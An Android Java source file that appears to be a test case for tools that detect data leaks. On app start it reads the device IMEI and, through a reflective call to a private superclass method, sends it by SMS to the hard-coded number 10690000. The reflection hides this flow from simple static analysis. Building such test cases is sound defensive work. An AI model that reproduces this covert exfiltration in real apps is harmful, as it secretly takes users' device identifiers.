// about       The private method of the super class is looked up from the object and sends.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.lang.reflect.Method;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    try {
      Object job = new Late();
      Method take = job.getClass().getSuperclass().getDeclaredMethod("take", String.class);
      take.setAccessible(true);
      take.invoke(job, phone.getDeviceId());
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }
}

class Early {
  private void take(String text) {
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }
}

class Late extends Early {
  private String last;

  private void take(String text) {
    last = text;
  }
}
